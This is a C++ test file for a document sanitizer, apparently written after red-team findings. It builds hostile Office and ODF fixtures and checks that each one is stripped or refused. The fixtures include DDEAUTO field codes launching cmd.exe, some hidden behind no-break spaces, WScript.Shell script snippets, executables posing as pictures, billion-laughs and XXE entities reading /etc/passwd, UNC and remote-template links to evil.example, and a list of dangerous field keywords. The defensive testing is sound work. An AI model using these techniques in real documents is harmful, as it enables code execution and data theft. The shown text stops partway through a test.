// Red-team run of issue 10, classes 2 (unknown parts inside rebuilt documents) for sanitizer.ooxml
// and sanitizer.odf. Every hostile fixture is built here; outputs are checked with our ZIP reader,
// python3's zipfile where useful, and LibreOffice where the suite already uses it.
#include <catch2/catch.hpp>

#include "sanitizers/odf/odf.h"
#include "sanitizers/ooxml/ooxml.h"
#include "sanitizers/ole2/ole2.h"
#include "src/zip/xml_check.h"
#include "src/zip/zip.h"
#include "support/sanitizer_run.h"
#include "support/test_support.h"
#include "support/tools.h"
#include "unit/sanitizers/image_fixtures.h"
#include "unit/sanitizers/office_checks.h"
#include "unit/sanitizers/office_fixtures.h"

using namespace mugai;
using namespace mugai::test::office;

namespace {

constexpr const char* kRelNs = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/";

std::string rel(const std::string& id, const std::string& type, const std::string& target) {
  std::string full = type.find("://") == std::string::npos ? kRelNs + type : type;
  return "<Relationship Id=\"" + id + "\" Type=\"" + full + "\" Target=\"" + target + "\"/>";
}

std::string rels(const std::string& body) {
  return "<?xml version=\"1.0\" encoding=\"UTF-8\"?><Relationships "
         "xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\">" +
         body + "</Relationships>";
}

constexpr std::string_view kText = "Mugai red team class two";

/// A plain .docx: a document with one picture (rId5), docProps, and whatever `extra_doc_rels` /
/// `extra_pkg_rels` / `extra` add.
Members docx(const std::string& picture, const std::string& extra_doc_rels = {},
             const std::string& extra_pkg_rels = {}, const Members& extra = {},
             const std::string& doc_extra_xml = {}) {
  Members m;
  m.push_back({"[Content_Types].xml",
               R"(<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Default Extension="png" ContentType="image/png"/><Default Extension="jpeg" ContentType="image/jpeg"/><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/><Override PartName="/docProps/app.xml" ContentType="application/vnd.openxmlformats-officedocument.extended-properties+xml"/></Types>)"});
  m.push_back({"_rels/.rels", rels(rel("rId1", "officeDocument", "word/document.xml") +
                                   rel("rId2", "extended-properties", "docProps/app.xml") +
                                   extra_pkg_rels)});
  m.push_back({"docProps/app.xml",
               R"(<?xml version="1.0" encoding="UTF-8"?><Properties xmlns="http://schemas.openxmlformats.org/officeDocument/2006/extended-properties"><Application>mugai test</Application></Properties>)"});
  m.push_back({"word/document.xml",
               R"(<?xml version="1.0" encoding="UTF-8"?><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships" xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing" xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" xmlns:pic="http://schemas.openxmlformats.org/drawingml/2006/picture"><w:body><w:p><w:r><w:t>)" +
                   std::string(kText) +
                   R"(</w:t></w:r></w:p><w:p><w:r><w:drawing><wp:inline><wp:extent cx="914400" cy="914400"/><wp:docPr id="1" name="Picture 1"/><a:graphic><a:graphicData uri="http://schemas.openxmlformats.org/drawingml/2006/picture"><pic:pic><pic:nvPicPr><pic:cNvPr id="1" name="p.png"/><pic:cNvPicPr/></pic:nvPicPr><pic:blipFill><a:blip r:embed="rId5"/><a:stretch><a:fillRect/></a:stretch></pic:blipFill><pic:spPr><a:xfrm><a:off x="0" y="0"/><a:ext cx="914400" cy="914400"/></a:xfrm><a:prstGeom prst="rect"><a:avLst/></a:prstGeom></pic:spPr></pic:pic></a:graphicData></a:graphic></wp:inline></w:drawing></w:r></w:p>)" +
                   doc_extra_xml + R"(<w:sectPr/></w:body></w:document>)"});
  m.push_back({"word/_rels/document.xml.rels",
               rels(rel("rId5", "image", "media/image1.png") + extra_doc_rels)});
  m.push_back({"word/media/image1.png", picture});
  for (const auto& e : extra) m.push_back(e);
  return m;
}

std::string png() { return imgfix::makePng(24, 16, PNG_COLOR_TYPE_RGB, 8, {{"Comment", "secret"}}); }

std::string ole2Package() {
  return sanitizers::ole2::writeCompoundFile(
      {{"\x01Ole10Native", std::string("\x40\x00\x00\x00\x02\x00", 6) + "MZ payload.exe"},
       {"\x01" "CompObj", std::string(40, 'c')}});
}

std::string pe() { return "MZ" + std::string(58, '\0') + std::string("\x40\0\0\0", 4) + "PE\0\0" + std::string(300, 'x'); }

Outcome runDocx(const std::string& data, const std::string& name = "report.docx") {
  sanitizers::ooxml::OoxmlSanitizer s(sanitizers::ooxml::Options{});
  return runSanitizer(s, data, name);
}

bool has(const std::string& zip_bytes, const std::string& member) {
  zip::Failure f;
  auto a = zip::Archive::open(zip_bytes, {}, &f);
  REQUIRE(a);
  return a->find(member) != nullptr;
}

std::string findingsText(const Outcome& o) {
  std::string s;
  for (const auto& f : o.findings) s += f.key + " " + f.value + "\n";
  return s;
}

}  // namespace

TEST_CASE("xml_check: well-formed parts pass, DOCTYPE, entities and broken markup do not",
          "[ooxml][odf][redteam2]") {
  using zip::xml::checkWellFormed;
  CHECK_FALSE(checkWellFormed("<?xml version=\"1.0\"?><a x=\"1\"><b/>text &amp; more</a>"));
  CHECK_FALSE(checkWellFormed(std::string("\xEF\xBB\xBF<a>\xE7\x94\xBB</a>")));  // BOM + UTF-8
  std::string laughs = "<?xml version=\"1.0\"?><!DOCTYPE lolz [<!ENTITY lol \"lol\">";
  for (int i = 1; i < 10; ++i)
    laughs += "<!ENTITY lol" + std::to_string(i) + " \"" + std::string(10, '&') + "\">";
  laughs += "]><lolz>&lol9;</lolz>";
  auto why = checkWellFormed(laughs);
  REQUIRE(why);
  CHECK(why->find("DOCTYPE") != std::string::npos);
  CHECK(checkWellFormed("<!DOCTYPE a SYSTEM \"http://evil.example/x.dtd\"><a/>"));
  CHECK(checkWellFormed("<a><b></a>"));
  CHECK(checkWellFormed("<a>&undefined;</a>"));
  CHECK(checkWellFormed("<a/><b/>"));
  CHECK(checkWellFormed(""));
  CHECK(checkWellFormed("<?xml version=\"1.0\" encoding=\"x-unknown\"?><a/>"));
}

TEST_CASE("ooxml: parts behind relationship types the rebuilder does not know go",
          "[ooxml][adversarial][redteam2]") {
  // The red team's sample: a .docx named files.zip carrying payload/setup.exe and an .hta
  // through made-up relationship types.
  std::string in = pack(docx(png(),
                             rel("rId9", "http://evil.example/rel/payload", "../payload/setup.exe"),
                             rel("rId8", "http://evil.example/rel/app", "payload/run.hta"), {
                                 {"payload/setup.exe", pe()},
                                 {"payload/run.hta", "<script>new ActiveXObject('WScript.Shell')</script>"},
                             }));
  Outcome o = runDocx(in, "files.zip");
  INFO(findingsText(o));
  REQUIRE(o.verdict == Verdict::Modified);
  CHECK(o.reason == Reason::CdrRebuilt);
  CHECK(mugai::test::hasFinding(o, "removed", "payload/setup.exe", true));
  CHECK(mugai::test::hasFinding(o, "removed", "payload/run.hta", true));
  CHECK_FALSE(has(o.replacement->data, "payload/setup.exe"));
  CHECK_FALSE(has(o.replacement->data, "payload/run.hta"));
  CHECK(zipMemberText(o.replacement->data, "word/_rels/document.xml.rels").find("evil.example") ==
        std::string::npos);
  CHECK(zipMemberText(o.replacement->data, "_rels/.rels").find("evil.example") == std::string::npos);
  CHECK(has(o.replacement->data, "word/document.xml"));

  // Variant: a known type's name under a made-up namespace still has to be what it says: an
  // "image" that is a PE goes; a type tail Office never uses ("executable") goes.
  Outcome v1 = runDocx(pack(docx(png(), rel("rId9", "http://evil.example/image", "media/a.png") +
                                            rel("rId10", "executable", "media/b.bin"),
                                 {}, {{"word/media/a.png", pe()}, {"word/media/b.bin", pe()}})));
  INFO(findingsText(v1));
  REQUIRE(v1.replacement);
  CHECK_FALSE(has(v1.replacement->data, "word/media/a.png"));
  CHECK_FALSE(has(v1.replacement->data, "word/media/b.bin"));
  // Variant: a second route to a known part through an unknown type does not make the unknown
  // relationship stay (it is dropped from the .rels).
  Outcome v2 = runDocx(pack(docx(png(), {}, rel("rId7", "http://evil.example/autorun", "docProps/app.xml"))));
  REQUIRE(v2.replacement);
  CHECK(zipMemberText(v2.replacement->data, "_rels/.rels").find("autorun") == std::string::npos);
}

TEST_CASE("ooxml: a media part that is not the picture it claims is removed, pictures are re-encoded",
          "[ooxml][adversarial][redteam2]") {
  // The named sample: an OLE2 Package behind an image relationship.
  Outcome o = runDocx(pack(docx(ole2Package())));
  INFO(findingsText(o));
  REQUIRE(o.verdict == Verdict::Modified);
  CHECK(mugai::test::hasFinding(o, "removed", "word/media/image1.png (not the picture it claims to be)"));
  CHECK_FALSE(has(o.replacement->data, "word/media/image1.png"));
  // the drawing that used it goes with the relationship; the text stays
  std::string doc = zipMemberText(o.replacement->data, "word/document.xml");
  CHECK(doc.find("rId5") == std::string::npos);
  CHECK(doc.find(std::string(kText)) != std::string::npos);

  // Variants: a PE as the package thumbnail; HTML as a picture; a real PNG with a text chunk
  // (rebuilt through the image chain: the chunk is gone, the picture stays).
  Outcome t = runDocx(pack(docx(png(), {}, rel("rId3", "metadata/thumbnail", "docProps/thumbnail.jpeg"),
                                {{"docProps/thumbnail.jpeg", pe()}})));
  REQUIRE(t.replacement);
  CHECK_FALSE(has(t.replacement->data, "docProps/thumbnail.jpeg"));
  Outcome h = runDocx(pack(docx("<html><script>alert(1)</script></html>")));
  REQUIRE(h.replacement);
  CHECK_FALSE(has(h.replacement->data, "word/media/image1.png"));

  std::string with_text = png();
  REQUIRE(with_text.find("secret") != std::string::npos);
  Outcome p = runDocx(pack(docx(with_text)));
  INFO(findingsText(p));
  REQUIRE(p.replacement);
  std::string out_png = zipMemberText(p.replacement->data, "word/media/image1.png");
  CHECK(out_png.rfind("\x89PNG", 0) == 0);
  CHECK(out_png.find("secret") == std::string::npos);
  // A JPEG with EXIF GPS is re-encoded too.
  std::string jpeg = imgfix::makeJpeg(32, 16, imgfix::JpegMarkers{.exif = imgfix::exifBlock(1, true)});
  Outcome j = runDocx(pack(docx(jpeg)));
  REQUIRE(j.replacement);
  std::string out_jpeg = zipMemberText(j.replacement->data, "word/media/image1.png");
  CHECK(out_jpeg.rfind("\xFF\xD8\xFF", 0) == 0);
  CHECK(out_jpeg.find("Exif") == std::string::npos);

  // The rebuilt package still opens with its text (LibreOffice, where installed).
  test::TempDir tmp;
  auto path = tmp.path() / "pic.docx";
  test::writeFile(path, p.replacement->data);
  std::string text = sofficeText(path, tmp.path());
  if (!text.empty()) CHECK(text.find(std::string(kText)) != std::string::npos);
}

TEST_CASE("ooxml: XML parts copied untouched are parsed: DOCTYPE or broken XML fail closed",
          "[ooxml][adversarial][redteam2]") {
  auto withApp = [](const std::string& app) {
    Members m = docx(png());
    for (auto& [name, data] : m)
      if (name == "docProps/app.xml") data = app;
    return pack(m);
  };
  // Billion laughs in a part nothing edits.
  std::string laughs = "<?xml version=\"1.0\"?><!DOCTYPE Properties [<!ENTITY a \"aaaaaaaaaa\">"
                       "<!ENTITY b \"&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;\">]><Properties>&b;</Properties>";
  Outcome o = runDocx(withApp(laughs));
  CHECK(o.reason == Reason::ParseMalformed);
  CHECK(!o.replacement);
  CHECK(o.detail.find("DOCTYPE") != std::string::npos);
  // Variants: not well-formed; an external DTD; a customXml item (reached through the package).
  CHECK(runDocx(withApp("<Properties><Application>x</Properties>")).reason == Reason::ParseMalformed);
  CHECK(runDocx(withApp("<!DOCTYPE p SYSTEM \"\\\\evil.example\\d.dtd\"><Properties/>")).reason ==
        Reason::ParseMalformed);
  Outcome c = runDocx(pack(docx(png(), rel("rId6", "customXml", "../customXml/item1.xml"), {},
                                {{"customXml/item1.xml", "<?xml version=\"1.0\"?><!DOCTYPE r [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><r>&x;</r>"}})));
  CHECK(c.reason == Reason::ParseMalformed);
  // A clean package whose picture only gets re-encoded is "converted", not "rebuilt without
  // active content"; one whose picture comes out of the chain unchanged is kept.
  Outcome clean = runDocx(pack(docx(imgfix::makeJpeg(32, 32))));
  INFO(findingsText(clean));
  REQUIRE(clean.replacement);
  CHECK(clean.reason == Reason::CdrConverted);
  CHECK_FALSE(mugai::test::hasFinding(clean, "removed", "", true));
  CHECK(runDocx(pack(docx(chainPng()))).verdict == Verdict::Pass);
}

// ---- class 4: field codes and links the detectors missed -----------------------------------

#include "sanitizers/rtf/rtf.h"
#include "src/office/field_code.h"

TEST_CASE("field codes: one tokenizer with Word's separators, one list", "[redteam4]") {
  using office::dangerousField;
  using office::tokenizeField;
  auto f = tokenizeField("DDEAUTO\tc:\\\\windows\\\\system32\\\\cmd.exe \"/k calc\"");
  CHECK(f.keyword == "DDEAUTO");
  REQUIRE(f.tokens.size() == 2);
  CHECK(f.tokens[1].quoted);
  CHECK(f.tokens[1].text == "/k calc");
  CHECK(tokenizeField("ddeauto\xC2\xA0" "cmd").keyword == "DDEAUTO");  // UTF-8 no-break space
  CHECK(tokenizeField("DDE\xA0" "cmd").keyword == "DDE");             // Windows-1252 NBSP byte
  CHECK(tokenizeField("\"DDEAUTO\" x").keyword == "DDEAUTO");
  CHECK(tokenizeField("\xE3\x80\x80INCLUDETEXT x").keyword == "INCLUDETEXT");
  auto sw = tokenizeField("DATABASE \\d \"\\\\\\\\srv\\\\db.mdb\" \\c \"Provider=x\" \\s \"SELECT 1\"");
  REQUIRE(sw.tokens.size() == 6);
  CHECK(sw.tokens[0].is_switch);
  CHECK(sw.tokens[0].text == "d");
  CHECK(sw.tokens[1].text == "\\\\srv\\db.mdb");
  CHECK(office::remoteTarget(sw.tokens[1].text));
  CHECK(office::remoteTarget("//srv/x"));
  CHECK(office::remoteTarget("https://x/"));
  CHECK(office::remoteTarget("srv@SSL\\DavWWWRoot\\x.dotm"));
  CHECK_FALSE(office::remoteTarget("C:\\Users\\a\\Normal.dotm"));
  CHECK_FALSE(office::remoteTarget("c://x"));
  for (const char* bad :
       {"DDEAUTO\tcmd", "DDE\xC2\xA0" "cmd", " dde\xA0x", "DATABASE \\d \"\\\\\\\\h\\\\x.mdb\"",
        "INCLUDEPICTURE \"http://t.example/p.png\" \\d", "IMPORT x", "INCLUDETEXT\t\"c:\\\\x\"",
        "LINK Excel.Sheet.8 \"\\\\\\\\h\\\\s.xls\"", "HYPERLINK \"\\\\\\\\h\\\\s\\\\x.exe\"",
        "HYPERLINK \\\\h\\s\\x.exe", "HYPERLINK \"file:///c:/x.hta\"", "HYPERLINK \"c:\\\\windows\\\\calc.exe\"",
        // the red team's return: other Unicode spaces after the keyword
        "DDEAUTO\xE2\x80\x83" "cmd", "DDE\xE2\x80\xAF" "cmd", "DDEAUTO\xE3\x80\x80" "cmd", "DDE\xC2\x85" "cmd",
        "DDEAUTO\xE2\x81\x9F" "cmd", "DDEAUTO\xE2\x80\x8A" "cmd"}) {
    INFO(bad);
    CHECK(dangerousField(bad));
  }
  for (const char* ok : {"PAGE", " MERGEFIELD Name ", "HYPERLINK \"https://example.org/\"",
                         "HYPERLINK \"mailto:a@example.org\"", "TOC \\o \"1-3\"", "DATE \\@ \"yyyy\"", ""}) {
    INFO(ok);
    CHECK_FALSE(dangerousField(ok));
  }
}

TEST_CASE("ooxml: DDE after TAB or no-break space, DATABASE and UNC hyperlink fields are neutralised",
          "[ooxml][adversarial][redteam4]") {
  auto withField = [](const std::string& instr_xml, bool simple) {
    std::string field =
        simple ? "<w:p><w:fldSimple w:instr=\"" + instr_xml + "\"><w:r><w:t>RESULT</w:t></w:r></w:fldSimple></w:p>"
               : "<w:p><w:r><w:fldChar w:fldCharType=\"begin\"/></w:r><w:r><w:instrText xml:space=\"preserve\">" +
                     instr_xml +
                     "</w:instrText></w:r><w:r><w:fldChar w:fldCharType=\"separate\"/></w:r><w:r><w:t>RESULT</w:t></w:r><w:r><w:fldChar w:fldCharType=\"end\"/></w:r></w:p>";
    return pack(docx(chainPng(), {}, {}, {}, field));
  };
  const std::pair<std::string, bool> cases[] = {
      {"DDEAUTO\tc:\\\\windows\\\\system32\\\\cmd.exe \"/k calc\"", false},
      {"DDE\xC2\xA0" "cmd \"/c calc\" x", false},                 // the red team's NBSP
      {"DDEAUTO&#xA0;cmd &quot;/k calc&quot;", true},             // NBSP as a character reference
      {"DATABASE \\d &quot;\\\\\\\\evil.example\\\\db.mdb&quot; \\s &quot;SELECT 1&quot;", true},
      {"HYPERLINK \"\\\\\\\\evil.example\\\\share\\\\run.exe\"", false},
  };
  for (const auto& [instr, simple] : cases) {
    INFO(instr);
    Outcome o = runDocx(withField(instr, simple));
    INFO(findingsText(o));
    REQUIRE(o.verdict == Verdict::Modified);
    std::string doc = zipMemberText(o.replacement->data, "word/document.xml");
    CHECK(doc.find("instrText") == std::string::npos);
    CHECK(doc.find("w:instr=") == std::string::npos);
    CHECK(doc.find("RESULT") != std::string::npos);  // what the reader saw stays
  }
  // A harmless field stays.
  Outcome page = runDocx(withField(" PAGE ", true));
  CHECK(page.verdict == Verdict::Pass);
}

namespace {
std::string wordStreamWith(const std::string& text, std::uint16_t flags = 0) {
  std::string w(2048, '\0');
  w[0] = '\xEC';
  w[1] = '\xA5';
  w[2] = '\xC1';
  w[0x0A] = static_cast<char>(flags & 0xFF);
  w[0x0B] = static_cast<char>(flags >> 8);
  w.replace(0x600, text.size(), text);
  return w;
}
void put32(std::string& s, std::size_t at, std::uint32_t v) {
  for (int i = 0; i < 4; ++i) s[at + static_cast<std::size_t>(i)] = static_cast<char>((v >> (8 * i)) & 0xFF);
}
std::string utf16(const std::string& a) {
  std::string w;
  for (char c : a) w += {c, '\0'};
  return w;
}
/// A Word file whose FIB points at an SttbfAssoc naming `template_path` as the attached template.
std::string docWithTemplate(const std::string& template_path) {
  std::string fib = wordStreamWith("", 0x0200);  // fWhichTblStm: 1Table
  std::string sttb = std::string("\xFF\xFF", 2) + std::string("\x12\x00", 2) + std::string("\x00\x00", 2);
  sttb += std::string("\x00\x00", 2);  // ibst 0: empty
  sttb += static_cast<char>(template_path.size()) + std::string(1, '\0') + utf16(template_path);
  for (int i = 2; i < 0x12; ++i) sttb += std::string("\x00\x00", 2);
  std::string table = std::string(0x100, 'T') + sttb + std::string(64, '\0');
  put32(fib, 0x19A, 0x100);
  put32(fib, 0x19E, static_cast<std::uint32_t>(sttb.size()));
  return sanitizers::ole2::writeCompoundFile({{"WordDocument", fib}, {"1Table", table}});
}
Outcome runOle(const std::string& data) {
  return mugai::test::applyOnce(sanitizers::ole2::Ole2Sanitizer({}),
                                mugai::test::partOf(data, "application/msword"), {});
}
std::string biffRecord(std::uint16_t type, const std::string& body) {
  std::string r;
  r += static_cast<char>(type & 0xFF);
  r += static_cast<char>(type >> 8);
  r += static_cast<char>(body.size() & 0xFF);
  r += static_cast<char>(body.size() >> 8);
  return r + body;
}
}  // namespace

TEST_CASE(".doc: DDE after TAB/NBSP, DATABASE, UNC hyperlinks and a remote template are refused",
          "[ole2][adversarial][redteam4]") {
  auto doc = [](const std::string& text) {
    return sanitizers::ole2::writeCompoundFile(
        {{"WordDocument", wordStreamWith(text)}, {"0Table", std::string(700, 'T')}});
  };
  for (const std::string& field :
       {std::string("\x13" "DDEAUTO\tc:\\\\windows\\\\cmd.exe \"/k calc\"\x14" "r\x15"),
        std::string("\x13" "DDE\xA0" "cmd \"/c calc\" x\x14" "r\x15"),
        std::string("\x13\0", 2) + utf16("DDEAUTO") + std::string("\xA0\0", 2) + utf16("cmd"),
        std::string("\x13 DATABASE \\d \"\\\\\\\\h\\\\db.mdb\" \\s \"SELECT 1\"\x14"),
        std::string("\x13 HYPERLINK \"\\\\\\\\h\\\\s\\\\x.exe\"\x14" "click\x15")}) {
    Outcome o = runOle(doc(field));
    INFO(o.detail);
    CHECK(o.reason == Reason::ContentActive);
    CHECK(!o.replacement);
  }
  CHECK(runOle(doc("\x13 HYPERLINK \"https://example.org/\"\x14" "x\x15")).verdict == Verdict::Modified);

  // The red team's remote template (SttbfAssoc), UNC and WebDAV; a local template stays.
  for (const char* remote : {"\\\\evil.example\\share\\t.dotm", "http://evil.example/t.dotm",
                             "evil.example@SSL\\DavWWWRoot\\t.dotm"}) {
    INFO(remote);
    Outcome o = runOle(docWithTemplate(remote));
    CHECK(o.reason == Reason::ContentActive);
    CHECK(o.detail.find("template") != std::string::npos);
  }
  CHECK(runOle(docWithTemplate("C:\\Users\\a\\Normal.dotm")).verdict == Verdict::Modified);
}

TEST_CASE(".xls: HYPERLINK() formulas in BIFF are refused like the .xlsx ones are removed",
          "[ole2][adversarial][redteam4]") {
  auto xls = [](const std::string& formula_rgce, std::uint16_t type = 0x0006) {
    std::string w = biffRecord(0x0809, std::string("\x00\x06\x05\x00", 4) + std::string(12, '\0'));
    w += biffRecord(0x000A, "");
    w += biffRecord(0x0809, std::string("\x00\x06\x10\x00", 4) + std::string(12, '\0'));
    std::string body = std::string(6, '\0') + std::string(8, '\0') + std::string(2, '\0') + std::string(4, '\0');
    std::uint16_t cce = static_cast<std::uint16_t>(formula_rgce.size());
    body += static_cast<char>(cce & 0xFF);
    body += static_cast<char>(cce >> 8);
    body += formula_rgce;
    w += biffRecord(type, body) + biffRecord(0x000A, "") + std::string(3000, '\0');
    return sanitizers::ole2::writeCompoundFile({{"Workbook", w}});
  };
  // ptgStr "\\h\s\x.exe", ptgFuncVar(2 args? here 1) HYPERLINK (iftab 359 = 0x0167)
  std::string target = "\\\\h\\s\\x.exe";
  std::string str = std::string("\x17", 1) + static_cast<char>(target.size()) + std::string(1, '\0') + target;
  for (char ptg : {'\x22', '\x42', '\x62'}) {
    Outcome o = runOle(xls(str + std::string(1, ptg) + std::string("\x01\x67\x01", 3)));
    CHECK(o.reason == Reason::ContentActive);
    CHECK(o.detail.find("HYPERLINK") != std::string::npos);
  }
  // An Excel 4.0 macro sheet (BOUNDSHEET dt = 1, hidden or not) is refused; a worksheet is not.
  auto withSheet = [](char dt, char state) {
    std::string w = biffRecord(0x0809, std::string("\x00\x06\x05\x00", 4) + std::string(12, '\0'));
    w += biffRecord(0x0085, std::string("\x00\x10\x00\x00", 4) + std::string(1, state) + std::string(1, dt) +
                                std::string("\x04\x00", 2) + "Auto");
    w += biffRecord(0x000A, "") + std::string(3000, '\0');
    return sanitizers::ole2::writeCompoundFile({{"Workbook", w}});
  };
  for (char state : {'\0', '\x01', '\x02'}) {
    Outcome m = runOle(withSheet('\x01', state));
    CHECK(m.reason == Reason::ContentActive);
    CHECK(m.detail.find("macro sheet") != std::string::npos);
  }
  CHECK(runOle(withSheet('\0', '\0')).verdict == Verdict::Modified);
  // A SUM (ptgFuncVar iftab 4) stays.
  CHECK(runOle(xls(std::string("\x1E\x01\x00\x1E\x02\x00\x22\x02\x04\x00", 10))).verdict == Verdict::Modified);
}

TEST_CASE("rtf: DDE after an NBSP, DATABASE fields and pictures linked from UNC paths go",
          "[rtf][adversarial][redteam4]") {
  auto rebuild = [](const std::string& body) {
    return sanitizers::rtf::rebuildRtf("{\\rtf1\\ansi " + body + "\\par}", {}, nullptr);
  };
  for (const char* field :
       {"{\\field{\\*\\fldinst DDEAUTO\\'a0c:\\\\\\\\windows\\\\\\\\cmd.exe \"/k calc\"}{\\fldrslt SHOWN}}",
        "{\\field{\\*\\fldinst {DDE}\\tab cmd \"/c calc\" x}{\\fldrslt SHOWN}}",
        "{\\field{\\*\\fldinst DATABASE \\\\d \"\\\\\\\\\\\\\\\\h\\\\\\\\db.mdb\" \\\\s \"SELECT 1\"}{\\fldrslt SHOWN}}"}) {
    INFO(field);
    auto r = rebuild(field);
    REQUIRE(r.ok);
    CHECK(r.rtf.find("fldinst") == std::string::npos);
    CHECK(r.rtf.find("SHOWN") != std::string::npos);
  }
  // pibName / fillBlipName naming a UNC or URL picture: the property goes, the shape stays.
  for (const char* prop : {"pibName", "fillBlipName", "pibname"}) {
    for (const char* target : {"\\\\\\\\evil.example\\\\s\\\\a.png", "http://evil.example/a.png"}) {
      std::string shape = std::string("{\\shp{\\*\\shpinst\\shpleft0\\shptop0{\\sp{\\sn ") + prop + "}{\\sv " + target +
                          "}}{\\sp{\\sn shapeType}{\\sv 75}}}}";
      INFO(shape);
      auto r = rebuild(shape);
      REQUIRE(r.ok);
      CHECK(r.rtf.find("evil.example") == std::string::npos);
      CHECK(r.rtf.find("shapeType") != std::string::npos);
      CHECK(mugai::test::hasFinding(Outcome{.findings = r.findings}, "removed", "shape property", true));
    }
  }
  auto local = rebuild("{\\shp{\\*\\shpinst{\\sp{\\sn pibName}{\\sv C:\\\\\\\\pics\\\\\\\\a.png}}}}");
  REQUIRE(local.ok);
  CHECK(local.rtf.find("pibName") != std::string::npos);
}

// ---- class 2, ODF: a PE as a picture or thumbnail, VBScript in layout-cache, XML not checked ----

namespace {
/// odtMembers() with a picture shown by content.xml (Pictures/p.png) and `extra` members.
std::string odtWith(const std::string& picture, const Members& extra = {},
                    const std::string& picture_name = "Pictures/p.png") {
  Members m = odtMembers();
  for (auto& [n, d] : m) {
    if (n != "content.xml") continue;
    std::size_t at = d.find("</office:text>");
    d.insert(at, "<text:p><draw:frame xmlns:draw=\"urn:oasis:names:tc:opendocument:xmlns:drawing:1.0\"><draw:image "
                 "xlink:href=\"" + picture_name + "\"/></draw:frame></text:p>");
  }
  m.push_back({picture_name, picture});
  for (const auto& e : extra) m.push_back(e);
  return pack(m);
}
Outcome runOdt(const std::string& data) {
  sanitizers::odf::OdfSanitizer s(sanitizers::odf::Options{});
  return runSanitizer(s, data, "doc.odt");
}
}  // namespace

TEST_CASE("odf: a PE as a picture or thumbnail and VBScript in layout-cache do not pass",
          "[odf][adversarial][redteam2]") {
  // The named samples: a PE as the thumbnail, VBScript in layout-cache (shown by nothing: they go).
  Outcome o = runOdt(odtWith(chainPng(), {{"Thumbnails/thumbnail.png", pe()},
                                          {"layout-cache", "<script language=\"VBScript\">CreateObject(\"WScript.Shell\").Run \"calc\"</script>"}}));
  INFO(findingsText(o));
  REQUIRE(o.verdict == Verdict::Modified);
  CHECK(mugai::test::hasFinding(o, "removed", "Thumbnails/thumbnail.png (not the picture it claims to be)"));
  CHECK(mugai::test::hasFinding(o, "removed", "layout-cache", true));
  CHECK_FALSE(has(o.replacement->data, "layout-cache"));
  CHECK_FALSE(has(o.replacement->data, "Thumbnails/thumbnail.png"));
  CHECK(has(o.replacement->data, "Pictures/p.png"));
  // A PE (or an OLE2 package, or an SVG with script) as a picture the document shows: it cannot
  // go alone, the document fails closed naming it.
  for (const auto& [bad, name] : std::vector<std::pair<std::string, std::string>>{
           {pe(), "Pictures/p.png"},
           {ole2Package(), "Pictures/p.png"},
           {"<svg xmlns=\"http://www.w3.org/2000/svg\"><script>alert(1)</script></svg>", "Pictures/p.svg"},
           {"<svg xmlns=\"http://www.w3.org/2000/svg\" xmlns:xlink=\"http://www.w3.org/1999/xlink\"><image xlink:href=\"\\\\\\\\evil.example\\\\a.png\"/></svg>",
            "Pictures/q.svg"}}) {
    INFO(name);
    Outcome b = runOdt(odtWith(bad, {}, name));
    CHECK(b.reason == Reason::CdrFailed);
    CHECK(!b.replacement);
    CHECK(b.detail.find(name) != std::string::npos);
  }
  // A plain SVG picture stays; a PNG with a text chunk is re-encoded without it.
  Outcome svg = runOdt(odtWith("<svg xmlns=\"http://www.w3.org/2000/svg\"><rect width=\"4\" height=\"4\"/></svg>", {}, "Pictures/ok.svg"));
  REQUIRE(svg.replacement);
  CHECK(has(svg.replacement->data, "Pictures/ok.svg"));
  Outcome p = runOdt(odtWith(png()));
  REQUIRE(p.replacement);
  CHECK(zipMemberText(p.replacement->data, "Pictures/p.png").find("secret") == std::string::npos);
}

TEST_CASE("odf: XML members copied untouched are parsed: DOCTYPE or broken XML fail closed",
          "[odf][adversarial][redteam2]") {
  std::string laughs = "<?xml version=\"1.0\"?><!DOCTYPE s [<!ENTITY a \"aaaaaaaaaa\"><!ENTITY b \"&a;&a;&a;&a;\">]>"
                       "<office:document-settings xmlns:office=\"urn:oasis:names:tc:opendocument:xmlns:office:1.0\">&b;</office:document-settings>";
  Outcome o = runOdt(odtWith(chainPng(), {{"settings.xml", laughs}}));
  CHECK(o.reason == Reason::ParseMalformed);
  CHECK(!o.replacement);
  CHECK(runOdt(odtWith(chainPng(), {{"settings.xml", "<office:document-settings><a></office:document-settings>"}})).reason ==
        Reason::ParseMalformed);
  CHECK(runOdt(odtWith(chainPng(), {{"manifest.rdf", "<rdf:RDF xmlns:rdf=\"x\">&undefined;</rdf:RDF>"}})).reason ==
        Reason::ParseMalformed);
}

// The red team's return: a field code in a tracked deletion (w:delInstrText) is still a field
// (the pre-check looked for "instrText" only); the variants already handled stay in the table.
TEST_CASE("ooxml: field codes in tracked deletions and split across runs are neutralised",
          "[ooxml][adversarial][redteam10]") {
  auto field = [](const std::string& element, const std::vector<std::string>& pieces) {
    std::string xml = "<w:p><w:r><w:fldChar w:fldCharType=\"begin\"/></w:r>";
    for (const auto& p : pieces)
      xml += "<w:r><w:" + element + " xml:space=\"preserve\">" + p + "</w:" + element + "></w:r>";
    xml += "<w:r><w:fldChar w:fldCharType=\"separate\"/></w:r><w:r><w:t>RESULT</w:t></w:r>"
           "<w:r><w:fldChar w:fldCharType=\"end\"/></w:r></w:p>";
    return pack(docx(chainPng(), {}, {}, {}, xml));
  };
  const std::pair<std::string, std::vector<std::string>> cases[] = {
      {"delInstrText", {"DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe \"/k calc\""}},    // was kept
      {"delInstrText", {"DD", "EAUTO\tcmd"}},                                             // was kept
      {"instrText", {"D", "D", "E", "AUTO c:\\\\windows\\\\system32\\\\cmd.exe"}},       // passed before
      {"instrText", {"INCLUDEPICTURE \"\\\\\\\\evil.example\\\\s\\\\x.png\" \\d"}},       // passed before
  };
